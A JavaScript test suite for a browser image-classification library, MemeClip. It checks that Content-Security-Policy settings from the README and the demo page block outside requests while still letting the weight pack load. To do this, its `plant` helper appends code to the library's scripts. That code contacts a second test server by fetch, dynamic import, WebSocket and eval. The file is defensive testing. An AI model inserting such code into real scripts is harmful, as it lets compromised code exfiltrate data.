// The policies: a page's binds its Workers too, and a script that is out for more reaches nobody but the site and the pack.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { after, before, test } from 'node:test';
import { empty, fileAt, host, launch, root, serve } from './harness.js';

const weights = join(root, 'weights/default');
/** With words: without, the page asks before it judges. */
const image = readFileSync(join(root, 'tests/goldens/ocr/banner-00.jpg'));
/** Scripts of the package in which something is planted. */
const LIBRARY = ['loader.js', 'memeclip.js', 'reader.js', 'thread.js', 'worker.js'];

/** `far` has a pack; `other` is the one that nothing may reach. */
let browser, site, far, other;
before(async () => {
  [browser, site, far, other] = await Promise.all([launch(), serve(weights), another(weights), another(root)]);
  for (const path of ['/app.js', ...LIBRARY.map((script) => `/memeclip/${script}`)]) {
    site.scripts[path] = readFileSync(fileAt(path), 'utf8') + plant(basename(path));
  }
});
after(async () => {
  await browser?.close();
  for (const server of [site, far, other]) server?.stop();
});

/** Another site, that lets everybody read, and what it was asked for. */
async function another(folder) {
  const asked = [];
  const server = await host(folder, { 'access-control-allow-origin': '*' }, (request) => asked.push(request.url));
  return { asked, ...server };
}

/** Tells the site that the script runs, and tries to reach the other one. */
function plant(script) {
  return `
    fetch('${site.origin}/ran/${script}').catch(() => {});
    fetch('${other.origin}/fetch/${script}', { mode: 'no-cors' }).catch(() => {});
    import('${other.origin}/import/${script}').catch(() => {});
    new WebSocket('${other.origin.replace('http', 'ws')}/socket/${script}').onerror = () => {};
    try { new Function("fetch('${other.origin}/eval/${script}', { mode: 'no-cors' }).catch(() => {})")() } catch {}`;
}

/** Which of these scripts have run since the last time. */
function ran() {
  const scripts = site.requests.flatMap(({ path }) => /^\/ran\/(.*)/.exec(path)?.[1] ?? []);
  site.requests.length = 0;
  return [...new Set(scripts)].sort();
}

/** A page of the site, with that policy, classifies two pictures, of which one has to be read. Returns on what device. */
async function classify(policy, options, weights = '/weights/') {
  const body = policy && `<meta http-equiv="Content-Security-Policy" content="${policy}">`;
  const page = await empty(browser, site.origin, { isolated: true, body });
  const device = await page.evaluate(async ([weights, options, image]) => {
    const { MemeClip } = await import('/memeclip/memeclip.js');
    const clf = await MemeClip.load(weights, { device: 'cpu', threads: 2, ...options });
    const bytes = Uint8Array.from(atob(image), (c) => c.charCodeAt(0));
    const answers = await clf.classify([bytes, bytes], { text: ['hello', undefined] });
    for (const answer of answers) if (!answer.tasks) throw answer;
    return answers[0].device;
  }, [weights, options, image.toString('base64')]);
  await page.close();
  return device;
}

test('without a policy what is planted gets out', async () => {
  await classify();
  assert.deepEqual(ran(), LIBRARY);
  for (const script of LIBRARY) {
    for (const way of ['fetch', 'import', 'socket', 'eval']) assert.ok(other.asked.includes(`/${way}/${script}`), `${way} ${script}`);
  }
  other.asked.length = 0;
});

test('the policy in the README lets in the pack, and nothing out', async () => {
  const [, policy] = /^Content-Security-Policy: (.*)/m.exec(readFileSync(join(root, 'README.md'), 'utf8'));
  const ask = (device) => classify(policy.replace('https://packs.example', far.origin), { assets: '/memeclip/', device }, far.origin);
  assert.match(await ask('cpu'), /^cpu/);
  assert.deepEqual(ran(), LIBRARY);
  assert.match(await ask('gpu'), /^gpu/);
  assert.deepEqual(ran(), LIBRARY.filter((script) => script !== 'thread.js'));
  assert.ok(far.asked.some((path) => path.endsWith('.safetensors')));
  assert.deepEqual(other.asked, []);
});

test("so does the demo page's, on a host without headers, on each visit", async () => {
  site.headers = {};
  const context = await browser.newContext();
  for (const pack of ['weights/', far.origin]) {
    far.asked.length = 0;
    for (const visit of [1, 2]) {
      const page = await context.newPage();
      await page.goto(`${site.origin}/index.html?device=cpu&weights=${pack}`);
      await page.setInputFiles('#file', { name: 'meme.jpg', mimeType: 'image/jpeg', buffer: image });
      await page.locator('#status', { hasText: 'Answered' }).waitFor();
      // Threads need headers, which the service worker sends from the second visit on.
      const first = pack === 'weights/' && visit === 1;
      assert.deepEqual(ran(), ['app.js', ...LIBRARY.filter((script) => !first || script !== 'thread.js')]);
      await page.close();
    }
    assert.equal(far.asked.some((path) => path.endsWith('.safetensors')), pack === far.origin);
    assert.deepEqual(other.asked, []);
  }
  await context.close();
});
